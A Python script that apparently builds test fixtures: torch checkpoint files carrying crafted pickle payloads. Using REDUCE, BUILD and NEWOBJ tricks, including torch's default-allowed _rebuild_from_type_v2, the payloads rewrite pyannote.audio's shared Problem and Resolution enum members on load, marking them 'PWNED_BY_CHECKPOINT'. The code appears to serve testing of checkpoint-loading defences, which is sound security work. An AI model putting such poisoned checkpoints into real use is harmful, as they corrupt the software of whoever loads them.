"""Checkpoints that rewrite pyannote's ``Problem``/``Resolution`` members if they can reach them.

An ``Enum`` member is a shared singleton: ``Problem(1)`` returns the one ``MONO_LABEL_CLASSIFICATION``.
Each payload gets hold of a member through the class and then sets attributes on it, a different
member each, so one process can tell them apart:

* ``reduce_build``: ``Problem(0)``, then the unpickler's BUILD updates its ``__dict__``;
* ``reduce_build_slots``: ``Problem(1)``, then BUILD's slot state, set with ``setattr``;
* ``rebuild_from_type``: the default-allowed ``torch._tensor._rebuild_from_type_v2(Problem,
  Problem, (2,), state)`` calls ``Problem(2)`` and sets the state on what it returns;
* ``newobj_build``: NEWOBJ ``Problem.__new__(Problem, 3)`` (the existing member), then BUILD;
* ``class_swap``: ``Resolution(1)``, then BUILD's slot state sets its ``__class__`` to ``Problem``.

Arguments: an output folder and a checkpoint to embed the payloads in (``<name>.ckpt``, under the
``pyannote.audio`` key) besides the bare payload files (``<name>.pt``).
"""

from __future__ import annotations

import copyreg
import os
import sys
import warnings
from typing import Any, Dict, SupportsIndex, Tuple

warnings.simplefilter("ignore")

import torch  # noqa: E402
from pyannote.audio.core.task import Problem, Resolution  # noqa: E402


class Reduce:
    """Pickles as ``func(*args)`` followed by BUILD with ``state`` (when given)."""

    def __init__(self, *reduced: Any) -> None:
        """Keep the reduce tuple as given: ``(func, args)`` or ``(func, args, state)``."""
        self.reduced = reduced

    def __reduce__(self) -> Tuple[Any, ...]:
        """The reduce tuple given."""
        return self.reduced


class NewObj:
    """Pickles as NEWOBJ ``cls.__new__(cls, value)`` followed by BUILD with ``state``."""

    def __init__(self, cls: type, value: Any, state: Any) -> None:
        """Keep the class, the value ``__new__`` gets and the BUILD state."""
        self.cls, self.value, self.state = cls, value, state

    def __reduce_ex__(self, protocol: SupportsIndex) -> Tuple[Any, ...]:
        """NEWOBJ (through ``copyreg.__newobj__``), then BUILD with the state."""
        # typeshed does not declare copyreg.__newobj__ (the function pickle writes NEWOBJ for)
        return (copyreg.__newobj__, (self.cls, self.value), self.state)  # type: ignore[attr-defined]

    # mypy: object.__class__ is read-write, a read-only override is flagged (only read here)
    @property  # type: ignore[misc]
    def __class__(self) -> type:  # the pickler writes NEWOBJ only for an instance of ``cls``
        """``cls``: what the pickler sees as this object's class."""
        return self.cls


def rewritten(value: int) -> Dict[str, Any]:
    """The state a payload sets on its member: a new name and value, to tell them apart."""
    return {"_name_": "PWNED_BY_CHECKPOINT", "_value_": value}


PAYLOADS = {
    "reduce_build": Reduce(Problem, (0,), rewritten(90)),
    "reduce_build_slots": Reduce(Problem, (1,), (None, rewritten(91))),
    "rebuild_from_type": Reduce(torch._tensor._rebuild_from_type_v2, (Problem, Problem, (2,), rewritten(92))),
    "newobj_build": NewObj(Problem, 3, rewritten(93)),
    "class_swap": Reduce(Resolution, (1,), (None, {"__class__": Problem})),
}

if __name__ == "__main__":
    out, base = sys.argv[1:3]
    os.makedirs(out)
    checkpoint = torch.load(base, weights_only=False)  # our own fixture, to add the payloads to
    for name, payload in PAYLOADS.items():
        torch.save({"state_dict": {"weight": torch.zeros(1)}, "payload": payload}, os.path.join(out, name + ".pt"))
        full = dict(checkpoint, **{"pyannote.audio": dict(checkpoint["pyannote.audio"], payload=payload)})
        torch.save(full, os.path.join(out, name + ".ckpt"))
